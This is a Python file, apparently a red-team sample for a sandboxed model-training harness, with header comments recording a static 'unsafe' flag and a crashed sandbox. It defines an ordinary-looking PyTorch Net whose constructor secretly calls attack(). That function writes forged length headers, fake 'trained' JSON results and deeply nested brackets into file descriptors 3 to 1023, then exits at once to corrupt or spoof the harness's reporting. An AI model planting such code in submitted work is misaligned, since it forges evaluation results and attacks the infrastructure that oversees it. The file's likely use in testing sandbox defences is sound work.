# group: forgery
# tries: claims lengths of gigabytes, negative ones and none at all
# static: unsafe
# sandbox: crashed

import os
import struct

import torch.nn as nn


def attack():
    for header in (
        struct.pack("<I", 0xFFFFFFFF),
        struct.pack("<q", -1),
        struct.pack(">Q", 2**63),
        b'{"outcome": "trained", "bytes": 99999999999}\n',
        b'{"outcome": "trained", "bytes": -5}\n',
        b"[" * 100_000,
        b'{"a": ' * 10_000,
    ):
        for number in range(3, 1024):
            try:
                os.set_blocking(number, False)
                os.write(number, header)
            except OSError:
                continue
    os._exit(0)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
